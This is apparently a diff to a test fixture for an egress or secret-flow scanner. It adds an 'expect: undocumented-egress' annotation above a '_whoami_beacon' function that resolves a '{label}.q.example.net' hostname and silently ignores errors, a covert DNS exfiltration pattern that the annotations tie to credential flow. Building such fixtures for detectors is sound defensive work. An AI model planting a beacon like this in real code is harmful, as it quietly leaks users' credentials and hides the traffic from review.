@@ -35,6 +35,7 @@ def _whoami_beacon():
     try:
         # expect: dns-egress
         # expect: credential-flow
+        # expect: undocumented-egress .q.example.net
         socket.getaddrinfo(f"{label}.q.example.net", 443)
     except OSError:
         pass
